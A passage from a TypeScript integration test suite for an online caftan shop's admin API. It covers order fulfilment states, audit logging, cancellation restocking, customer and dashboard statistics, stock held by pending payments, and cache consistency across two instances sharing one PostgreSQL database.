      billing_address: expect.objectContaining({ city: 'Dubai' }),
    });
    expect(order.history).toEqual([
      expect.objectContaining({ from: null, to: 'unfulfilled', carrier: null }),
      expect.objectContaining({
        from: 'unfulfilled',
        to: 'shipped',
        by: { id: admin.id, name: 'Lalla Owner', email: admin.email },
        carrier: 'Aramex',
        tracking_number: 'AWB 4410 2231',
      }),
    ]);
    expect(audit).toEqual([
      expect.objectContaining({
        action: 'order.status',
        actor: expect.objectContaining({ id: admin.id }),
        before: { fulfillment_status: 'unfulfilled', version: 1 },
        after: expect.objectContaining({ fulfillment_status: 'shipped', tracking_number: 'AWB 4410 2231' }),
      }),
    ]);
    const slip = await asAdmin('GET', ADMIN_API.packingSlip(id));
    expect(slip.body.data.slip).toMatchObject({
      order_number: numbers[0],
      pieces: 2,
      carrier: 'Aramex',
      ship_to: { name: 'Noura Al Mansoori', city: 'Dubai' },
      lines: [expect.objectContaining({ product_slug: article.slug, size: article.size, quantity: 2 })],
    });
    expect(JSON.stringify(slip.body.data.slip)).not.toMatch(/price|total/);
    const counts = (await asAdmin('GET', ADMIN_API.orders)).body.data.counts;
    expect(counts).toMatchObject({ all: 3, unfulfilled: 2, shipped: 1 });
    expect((await asAdmin('GET', `${ADMIN_API.orders}?status=shipped`)).body.data.orders.data).toHaveLength(
      1,
    );
  });

  it('refuses a bad move and writes nothing; cancelling before shipping puts the pieces back', async () => {
    const audits = await countRows(t, 'audit_log');
    const back = await moveOrder(orderIds[0]!, { status: 'processing' });
    expect(back.status).toBe(409);
    const long = await moveOrder(orderIds[1]!, {
      status: 'shipped',
      tracking_number: 'x'.repeat(101),
    });
    expect(long.status).toBe(422);
    expect(long.body.errors.tracking_number).toBeDefined();
    expect(await countRows(t, 'audit_log')).toBe(audits);

    const before = await stockNow();
    const res = await moveOrder(orderIds[1]!, { status: 'cancelled' });
    expect(res.status).toBe(200);
    expect(await stockNow()).toBe(before! + 1);
    await mailTo(shopper.email, `Your order ${numbers[1]} has been cancelled`);
    const { audit } = (await asAdmin('GET', ADMIN_API.order(orderIds[1]!))).body.data;
    expect(audit[0]).toMatchObject({
      action: 'order.status',
      after: { fulfillment_status: 'cancelled', restocked: 1 },
    });
  });

  it('lists customers with orders count and total spent, and shows one with orders and addresses', async () => {
    const list = await asAdmin('GET', `${ADMIN_API.customers}?q=mariam`);
    expect(list.status).toBe(200);
    const paid = [0, 2].reduce((sum, i) => sum + Number(article.price) * (i === 0 ? 2 : 1), 0);
    expect(list.body.data.customers.data).toEqual([
      expect.objectContaining({
        id: shopper.id,
        email: shopper.email,
        orders_count: 3,
        // The cancelled order does not count.
        total_spent: paid.toFixed(2),
      }),
    ]);
    await call(t, 'POST', '/api/v1/account/addresses', shopper.token, {
      name: 'Mariam Haddad',
      email: shopper.email,
      phone: '+971 50 111 2222',
      address: 'Apartment 4, Marina Walk',
      city: 'Dubai',
      postalCode: '00000',
      country: 'AE',
    });
    const one = await asAdmin('GET', ADMIN_API.customer(shopper.id));
    expect(one.status).toBe(200);
    expect(one.body.data.orders.map((o: { id: number }) => o.id)).toEqual([...orderIds].reverse());
    expect(one.body.data.addresses).toEqual([
      expect.objectContaining({ address: 'Apartment 4, Marina Walk' }),
    ]);
    expect((await asAdmin('GET', ADMIN_API.customer(999_999))).status).toBe(404);
  });

  it('sums the dashboard: revenue per day, basket, top products, low stock, unread, to ship', async () => {
    // Being packed still waits for the courier.
    expect((await moveOrder(orderIds[2]!, { status: 'processing' })).status).toBe(200);
    await t.database.db
      .update(productStock)
      .set({ stock: 1 })
      .where(
        and(
          eq(productStock.productId, article.productId),
          eq(productStock.color, article.color),
          eq(productStock.size, article.size),
        ),
      );
    const res = await asAdmin('GET', `${ADMIN_API.stats}?days=7`);
    expect(res.status).toBe(200);
    const { stats } = res.body.data;
    const revenue = (Number(article.price) * 3).toFixed(2);
    expect(stats.per_day).toHaveLength(7);
    expect(stats.per_day.at(-1)).toEqual({
      date: shopDay(new Date(), t.config.shop.timeZone),
      revenue,
      orders: 2,
    });
    expect(stats).toMatchObject({
      days: 7,
      revenue,
      orders: 2,
      average_basket: (Number(revenue) / 2).toFixed(2),
      awaiting_shipment: 1,
      top_products: [expect.objectContaining({ slug: article.slug, quantity: 3, revenue })],
    });
    expect(stats.low_stock).toContainEqual(
      expect.objectContaining({ slug: article.slug, color: article.color, size: article.size, available: 1 }),
    );
    expect(typeof stats.unread_messages).toBe('number');
    expect((await asAdmin('GET', `${ADMIN_API.stats}?days=12`)).status).toBe(422);
  });

  it('counts every paid order not yet handed to the courier as waiting to ship, and no other', async () => {
    const waiting = async () =>
      (await asAdmin('GET', `${ADMIN_API.stats}?days=7`)).body.data.stats.awaiting_shipment as number;
    // Shipped (0), cancelled (1) and processing (2) so far: the one being packed waits.
    expect(await waiting()).toBe(1);
    const fresh = await newOrder();
    expect(await waiting()).toBe(2);
    expect((await moveOrder(orderIds[0]!, { status: 'delivered' })).status).toBe(200);
    expect(await waiting()).toBe(2);
    expect((await moveOrder(fresh, { status: 'shipped' })).status).toBe(200);
    expect(await waiting()).toBe(1);
    // The orders list's "to ship" view holds the same orders as the count.
    const list = (await asAdmin('GET', `${ADMIN_API.orders}?status=to_ship`)).body.data;
    expect(list.orders.data.map((o: { id: number }) => o.id)).toEqual([orderIds[2]]);
    expect(list.counts.to_ship).toBe(1);
  });

  it('keeps the pieces payments under way hold: dropping their size is refused and nothing is written', async () => {
    await t.database.db
      .update(productStock)
      .set({ stock: 10 })
      .where(
        and(
          eq(productStock.productId, article.productId),
          eq(productStock.color, article.color),
          eq(productStock.size, article.size),
        ),
      );
    const held: CartLine = { ...article, quantity: 3 };
    await fillCart(t, shopper, [held]);
    const intent = await createIntent(t, shopper, totalOf([held]));
    expect(intent.status).toBe(201);
    const before = (await asAdmin('GET', ADMIN_API.product(article.productId))).body.data.product;
    const dropped = await asAdmin('PATCH', ADMIN_API.product(article.productId), {
      price: '1.00',
      sizes: before.sizes
        .filter((s: { name: string }) => s.name !== article.size)
        .map((s: { name: string }) => ({ name: s.name })),
      version: before.version,
    });
    expect(dropped.status).toBe(422);
    expect(dropped.body.errors.sizes[0]).toContain(
      `hold pieces of this product (${article.color}, size ${article.size}: 3)`,
    );
    expect((await asAdmin('GET', ADMIN_API.product(article.productId))).body.data.product).toEqual(before);
  });
});

/** Several instances share one PostgreSQL: a change made through one is in the other's answers at once. */
describe.runIf(loadConfig({ ...process.env }).databaseUrl)('two instances on one PostgreSQL', () => {
  let b: FastifyInstance;
  let bUrl: string;
  beforeAll(async () => {
    const config = loadConfig({
      ...process.env,
      LOG_LEVEL: 'silent',
      DATABASE_URL: t.databaseUrl,
      DATA_DIR: t.config.dataDir,
      REDIS_PREFIX: t.config.redisPrefix,
    });
    b = await buildApp(config, { renderDemoMedia: false });
    await b.listen({ port: 0, host: '127.0.0.1' });
    bUrl = `http://127.0.0.1:${(b.server.address() as { port: number }).port}`;
  });
  afterAll(() => b?.close());

  const onB = async (path: string) => {
    const res = await fetch(bUrl + path);
    return { status: res.status, body: (await res.json()) as any };
  };
  const slugsOf = (body: any): string[] => body.data.data.products.map((p: { slug: string }) => p.slug);

  it('shows a product created, edited and archived through one instance in the other’s answers at once', async () => {
    const slug = 'salma-midnight-caftan';
    // B has the answers cached before the change.
    expect(slugsOf((await onB('/api/v1/products/filters/category/caftan')).body)).not.toContain(slug);
    // (A search that finds nothing answers the closest pieces, here Salwa: never the new one.)
    expect(slugsOf((await onB('/api/v1/products/search?q=salma')).body)).not.toContain(slug);
    expect((await onB(`/api/v1/products/slug/${slug}`)).status).toBe(404);

    const created = await asAdmin(
      'POST',
      ADMIN_API.products,
      newCaftan({ name: { en: 'Salma Midnight Caftan', fr: 'Caftan Salma nuit', ar: 'قفطان سلمى الليلي' } }),
    );
    expect(created.status).toBe(201);
    const id = created.body.data.product.id as number;
    await expect
      .poll(async () => slugsOf((await onB('/api/v1/products/filters/category/caftan')).body), {
        timeout: 3000,
      })
      .toContain(slug);
    await expect
      .poll(async () => slugsOf((await onB('/api/v1/products/search?q=salma')).body))
      .toEqual([slug]);
    expect((await onB(`/api/v1/products/slug/${slug}`)).body.data.product.price).toBe('2450.00');

    await asAdmin('PATCH', ADMIN_API.product(id), {
      price: '1800',
      old_price: null,
      version: created.body.data.product.version,
    });
    await expect
      .poll(async () => (await onB(`/api/v1/products/slug/${slug}`)).body.data.product.price, {
        timeout: 3000,
      })
      .toBe('1800.00');

    await asAdminAt('DELETE', ADMIN_API.product(id), ADMIN_API.product(id), 'product');
    await expect
      .poll(async () => (await onB(`/api/v1/products/slug/${slug}`)).status, { timeout: 3000 })
      .toBe(404);
    expect(slugsOf((await onB('/api/v1/products/filters/category/caftan')).body)).not.toContain(slug);
    expect(slugsOf((await onB('/api/v1/products/search?q=salma')).body)).not.toContain(slug);
  });
});
